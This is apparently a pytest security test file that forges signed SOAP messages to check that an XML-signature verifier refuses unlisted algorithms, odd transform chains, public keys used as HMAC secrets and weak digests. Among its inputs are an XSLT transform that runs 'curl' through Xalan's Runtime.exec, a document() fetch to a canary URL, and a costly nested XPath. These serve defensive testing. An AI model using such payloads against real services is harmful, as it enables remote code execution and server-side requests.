"""Every algorithm that a standard or an old draft ever named, in each place where a signature names one.

What the profile lists passes; nothing else does, even where the value is right for the algorithm named.
"""

import base64
import hashlib
import hmac
from collections.abc import Callable
from typing import Any, Final

import pytest
from attacks.forging import DS, element, forge
from attacks.siege import besiege, canonical
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from lxml import etree
from support.client import NS, Consumer
from support.handmade import ECDSA_SHA1, HMAC_SHA256, INCLUSIVE, SHA1, Choices, handmade
from support.place import Place

from esb.certs.profile import DIGESTS, SIGNATURES
from esb.kernel import namespaces as ns
from esb.kernel import rules
from esb.kernel.soap import SoapVersion

_00, _01, _07, _21 = (
    "http://www.w3.org/2000/09/xmldsig#",
    "http://www.w3.org/2001/04/xmldsig-more#",
    "http://www.w3.org/2007/05/xmldsig-more#",
    "http://www.w3.org/2021/04/xmldsig-more#",
)
_ENC, _ENC11, _DS11 = (
    "http://www.w3.org/2001/04/xmlenc#",
    "http://www.w3.org/2009/xmlenc11#",
    "http://www.w3.org/2009/xmldsig11#",
)
_SHA: Final = ("md2", "md5", "sha1", "sha224", "sha256", "sha384", "sha512", "ripemd160", "whirlpool")
_SHA3: Final = ("sha3-224", "sha3-256", "sha3-384", "sha3-512")
URIS: Final = tuple(
    dict.fromkeys(
        (
            *(f"{_00}{name}" for name in ("sha1", "hmac-sha1", "dsa-sha1", "rsa-sha1", "base64", "enveloped-signature",
                                          "minimal", "", "md5", "sha256", "Object")),
            *(f"{_01}{name}" for name in ("md5", "sha224", "sha384", "minimal", "kw-camellia128", "esign-sha1", "kcdsa",
                                          "psec-kem", "camellia128-cbc", "arcfour", "PKCS7signedData")),
            *(f"{_01}{kind}-{name}" for kind in ("hmac", "rsa", "ecdsa") for name in _SHA),
            *(f"{_01}esign-{name}" for name in _SHA[3:]),
            *(f"{_07}{name}" for name in ("whirlpool", "MGF1", "rsa-pss", "xptr", "RSAPSSParams", *_SHA3)),
            *(f"{_07}{kind}-{name}" for kind in ("ecdsa", "rsa") for name in ("ripemd160", "whirlpool", *_SHA3)),
            *(f"{_07}{name}-rsa-MGF1" for name in (*_SHA, *_SHA3)),
            *(f"{_21}{name}" for name in ("eddsa-ed25519", "eddsa-ed25519ph", "eddsa-ed25519ctx", "eddsa-ed448",
                                          "eddsa-ed448ph", "xmss-sha2-10-256", "hss-lms", "siphash-2-4", "poly1305",
                                          "hkdf", "chacha20poly1305")),
            *(f"{_ENC}{name}" for name in ("sha256", "sha512", "ripemd160", "aes128-cbc", "rsa-1_5", "Content", "dh")),
            *(f"{_ENC11}{name}" for name in ("mgf1sha1", "mgf1sha256", "aes256-gcm", "ConcatKDF", "pbkdf2")),
            *(f"{_DS11}{name}" for name in ("dsa-sha256", "KeyInfoReference", "DEREncodedKeyValue")),
            "http://www.w3.org/TR/2001/REC-xml-c14n-20010315",
            "http://www.w3.org/TR/2001/REC-xml-c14n-20010315#WithComments",
            "http://www.w3.org/2006/12/xml-c14n11",
            "http://www.w3.org/2006/12/xml-c14n11#WithComments",
            ns.EXC_C14N,
            f"{ns.EXC_C14N}WithComments",
            "http://www.w3.org/2010/xml-c14n2",
            "http://www.w3.org/2010/10/xml-c14n2",
            "http://www.w3.org/TR/2000/CR-xml-c14n-20001026",
            "http://www.w3.org/TR/1999/WD-xml-c14n-19991115",
            "http://www.w3.org/TR/1999/REC-xpath-19991116",
            "http://www.w3.org/2002/06/xmldsig-filter2",
            "http://www.w3.org/2002/04/xmldsig-filter2",
            "http://www.w3.org/TR/1999/REC-xslt-19991116",
            "http://www.w3.org/TR/2001/WD-xptr-20010108",
            "http://www.w3.org/2002/07/decrypt#XML",
            "http://www.w3.org/2002/07/decrypt#Binary",
            "http://www.w3.org/2001/10/xml-exc-c14n",
            "http://www.w3.org/2001/10/XML-exc-c14n#",
            "http://www.w3.org/2001/04/xmldsig-more/rsa-sha256",
            "http://www.w3.org/2000/07/xmldsig#rsa-sha1",
            "http://schemas.xmlsoap.org/2005/02/trust/psha1",
            "http://docs.oasis-open.org/wss/oasis-wss-SwAProfile-1.1#Attachment-Content-Signature-Transform",
            "http://docs.oasis-open.org/wss/2004/XX/oasis-2004XX-wss-swa-profile-1.0#Attachment-Complete-Transform",
            ns.STR_TRANSFORM,
            "http://uri.etsi.org/01903/v1.3.2#",
            "urn:oid:1.2.840.10045.4.3.2",
            "urn:ietf:params:xml:ns:cpxmlsec:algorithms:gostr34112012-256",
            "urn:ietf:params:xml:ns:cpxmlsec:algorithms:gostr34102001-gostr3411",
            "ecdsa-sha256",
            "SHA256withECDSA",
            "none",
            "",
            " ",
            f" {ns.ECDSA_SHA256}",
            f"{ns.ECDSA_SHA256} ",
            f"{ns.ECDSA_SHA256}#",
            ns.ECDSA_SHA256.replace("http", "https"),
            ns.ECDSA_SHA256.upper(),
            ns.SHA256.replace("#", "%23"),
            "a" * 5_000,
        )
    )
)  # fmt: skip
LISTED: Final = {
    "SignatureMethod": {*SIGNATURES, ns.RSA_PSS},
    "DigestMethod": set(DIGESTS),
    "CanonicalizationMethod": {ns.EXC_C14N},
    "Transform": {ns.EXC_C14N},
}


@pytest.mark.parametrize("where", LISTED)
def test_what_the_profile_does_not_list(place: Place, eesmn: Consumer, version: SoapVersion, where: str) -> None:
    own = {rules.SIG_ALGORITHM, rules.SIG_KEY_MATCH, rules.SIG_TRANSFORM}
    with besiege(place, least=130) as siege:
        for uri in URIS:
            listed = uri in LISTED[where]

            def change(root: Any, signature: Any, uri: str = uri) -> None:
                next(signature.iter(f"{DS}{where}")).set("Algorithm", uri)

            message = forge(eesmn, version, change)
            if not listed:
                more = {rules.SIG_STRUCTURE} if uri == ns.STR_TRANSFORM else set()
                siege.refused(uri, message, version, *own, *more)
            elif uri not in (ns.EXC_C14N, ns.SHA256, ns.ECDSA_SHA256):
                # Listed, and not what was computed: refused for its value or for its key, not for its name.
                wanted = (rules.SIG_VALUE, rules.SIG_DIGEST, rules.SIG_KEY_MATCH)
                siege.refused(uri, message, version, *wanted)


def transforms(*uris: str) -> Callable[[Any, Any], None]:
    """The Body's reference with these transforms, whose result is in truth that of exclusive canonicalization."""

    def change(root: Any, signature: Any) -> None:
        parent = next(signature.iter(f"{DS}Transforms"))
        for child in list(parent):
            parent.remove(child)
        for uri in uris:
            etree.SubElement(parent, f"{DS}Transform", Algorithm=uri)

    return change


_ENVELOPED: Final = ns.ENVELOPED_SIGNATURE
_XPATH: Final = "http://www.w3.org/TR/1999/REC-xpath-19991116"
_XSLT: Final = "http://www.w3.org/TR/1999/REC-xslt-19991116"
CHAINS: Final = (
    (), (ns.EXC_C14N, ns.EXC_C14N), (ns.EXC_C14N, _ENVELOPED), (_ENVELOPED,), (_ENVELOPED, _ENVELOPED, ns.EXC_C14N),
    (ns.EXC_C14N,) * 3, (ns.EXC_C14N,) * 500, (INCLUSIVE, ns.EXC_C14N), (ns.EXC_C14N, INCLUSIVE), (INCLUSIVE,),
    (_XPATH, ns.EXC_C14N), (_XSLT, ns.EXC_C14N), (f"{_00}base64", ns.EXC_C14N), (ns.EXC_C14N, f"{_00}base64"),
    (_ENVELOPED, ns.STR_TRANSFORM), (ns.STR_TRANSFORM, ns.EXC_C14N), (f"{ns.EXC_C14N}WithComments",),
    ("http://www.w3.org/2002/06/xmldsig-filter2", ns.EXC_C14N), (_ENVELOPED, f"{ns.EXC_C14N}WithComments"),
)  # fmt: skip


def test_chains_of_transforms(place: Place, eesmn: Consumer, version: SoapVersion) -> None:
    with besiege(place, least=len(CHAINS)) as siege:
        for chain in CHAINS:
            message = forge(eesmn, version, transforms(*chain))
            siege.refused(chain[:5], message, version, rules.SIG_TRANSFORM, rules.SIG_STRUCTURE)


INSIDE: Final = {
    "XPath": f'<ds:Transform Algorithm="{_XPATH}"><ds:XPath>not(ancestor-or-self::x)</ds:XPath></ds:Transform>',
    "XPath that takes all": f'<ds:Transform Algorithm="{_XPATH}"><ds:XPath>true()</ds:XPath></ds:Transform>',
    "XPath that counts long": f'<ds:Transform Algorithm="{_XPATH}"><ds:XPath>count(//*[count(//*[count(//*)>0])>0])>0'
    "</ds:XPath></ds:Transform>",
    "filter 2": '<ds:Transform Algorithm="http://www.w3.org/2002/06/xmldsig-filter2"><f:XPath '
    'xmlns:f="http://www.w3.org/2002/06/xmldsig-filter2" Filter="intersect">//fin</f:XPath></ds:Transform>',
    "XSLT": f'<ds:Transform Algorithm="{_XSLT}"><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" '
    'version="1.0"><xsl:template match="/"><xsl:copy-of select="document(\'LURE\')"/></xsl:template></xsl:stylesheet>'
    "</ds:Transform>",
    "XSLT that runs": f'<ds:Transform Algorithm="{_XSLT}"><xsl:stylesheet '
    'xmlns:xsl="http://www.w3.org/1999/XSL/Transform" '
    'xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime" version="1.0"><xsl:template match="/">'
    "<xsl:value-of select=\"rt:exec(rt:getRuntime(),'curl LURE')\"/></xsl:template></xsl:stylesheet></ds:Transform>",
    "decrypt": '<ds:Transform Algorithm="http://www.w3.org/2002/07/decrypt#XML"><d:Except '
    'xmlns:d="http://www.w3.org/2002/07/decrypt#" URI="#x"/></ds:Transform>',
    "prefixes of nobody": f'<ds:Transform Algorithm="{ns.EXC_C14N}"><ec:InclusiveNamespaces '
    f'xmlns:ec="{ns.EXC_C14N}" PrefixList="a/b \'"/></ds:Transform>',
    "65 prefixes": f'<ds:Transform Algorithm="{ns.EXC_C14N}"><ec:InclusiveNamespaces xmlns:ec="{ns.EXC_C14N}" '
    f'PrefixList="{" ".join(f"p{n}" for n in range(65))}"/></ds:Transform>',
    "two lists of prefixes": f'<ds:Transform Algorithm="{ns.EXC_C14N}">'
    + f'<ec:InclusiveNamespaces xmlns:ec="{ns.EXC_C14N}" PrefixList="p"/>' * 2
    + "</ds:Transform>",
    "a list of another namespace": f'<ds:Transform Algorithm="{ns.EXC_C14N}"><InclusiveNamespaces PrefixList="p"/>'
    "</ds:Transform>",
}


def test_transforms_with_something_inside(place: Place, eesmn: Consumer, version: SoapVersion) -> None:
    with besiege(place, least=2 * len(INSIDE)) as siege:
        for name, text in INSIDE.items():
            lured = text.replace("LURE", siege.canary.url)
            for before in ((), (ns.EXC_C14N,)):

                def change(root: Any, signature: Any, text: str = lured, before: tuple[str, ...] = before) -> None:
                    transforms(*before)(root, signature)
                    next(signature.iter(f"{DS}Transforms")).append(element(text))

                siege.refused((name, before), forge(eesmn, version, change), version)


def _secrets(consumer: Consumer) -> dict[str, bytes]:
    assert consumer.certificate is not None
    certificate, key = consumer.certificate, consumer.certificate.public_key()
    return {
        "the certificate": certificate.public_bytes(Encoding.DER),
        "the certificate in PEM": certificate.public_bytes(Encoding.PEM),
        "its base64": base64.b64encode(certificate.public_bytes(Encoding.DER)),
        "the key": key.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
        "the key in PEM": key.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo),
        "nothing": b"",
        "its digest": hashlib.sha256(certificate.public_bytes(Encoding.DER)).digest(),
    }


def test_a_public_thing_as_the_secret_of_a_mac(place: Place, eesmn: Consumer, version: SoapVersion) -> None:
    """With the length of the output cut, too."""
    with besiege(place, least=50) as siege:
        for name, secret in _secrets(eesmn).items():
            for uri, made in ((HMAC_SHA256, "sha256"), (f"{_00}hmac-sha1", "sha1"), (f"{_01}hmac-sha512", "sha512")):
                for bits in (None, 0, 1, 8, 160):

                    def change(
                        root: Any,
                        signature: Any,
                        uri: str = uri,
                        bits: int | None = bits,
                        made: str = made,
                        key: bytes = secret,
                    ) -> None:
                        method = next(signature.iter(f"{DS}SignatureMethod"))
                        method.set("Algorithm", uri)
                        if bits is not None:
                            method.append(element(f"<ds:HMACOutputLength>{bits}</ds:HMACOutputLength>"))
                        mac = hmac.digest(key, canonical(signature[0]), made)
                        cut = mac if bits is None else mac[: (bits + 7) // 8]
                        signature[1].text = base64.b64encode(cut).decode()

                    siege.refused((name, uri, bits), forge(eesmn, version, None, change), version, rules.SIG_ALGORITHM)


def test_right_values_of_weak_algorithms(place: Place, eesmn: Consumer, version: SoapVersion) -> None:
    with besiege(place, least=8) as siege:
        weak = (
            Choices(digest=SHA1),
            Choices(signature=ECDSA_SHA1),
            Choices(signature=ECDSA_SHA1, digest=SHA1),
            Choices(c14n=INCLUSIVE),
            Choices(transform=INCLUSIVE),
            Choices(signature=HMAC_SHA256),
            Choices(signature=ECDSA_SHA1, digest=SHA1, c14n=INCLUSIVE, transform=INCLUSIVE),
            Choices(signature=HMAC_SHA256, digest=SHA1),
        )
        for choices in weak:
            message = handmade(eesmn, version=version, choices=choices)
            siege.refused(choices, message, version, rules.SIG_ALGORITHM, rules.SIG_TRANSFORM)


def test_one_weak_digest_among_good_ones(place: Place, eesmn: Consumer, version: SoapVersion) -> None:
    with besiege(place, least=4) as siege:
        for number in (0, 1):
            for uri, make in ((SHA1, hashlib.sha1), (f"{_01}md5", hashlib.md5)):

                def change(root: Any, signature: Any, number: int = number, uri: str = uri, make: Any = make) -> None:
                    reference = signature[0][2 + number]
                    target = (root[-1], root.find(".//wsu:Timestamp", NS))[number]
                    reference[1].set("Algorithm", uri)
                    reference[2].text = base64.b64encode(make(canonical(target)).digest()).decode()

                siege.refused((number, uri), forge(eesmn, version, change), version, rules.SIG_ALGORITHM)
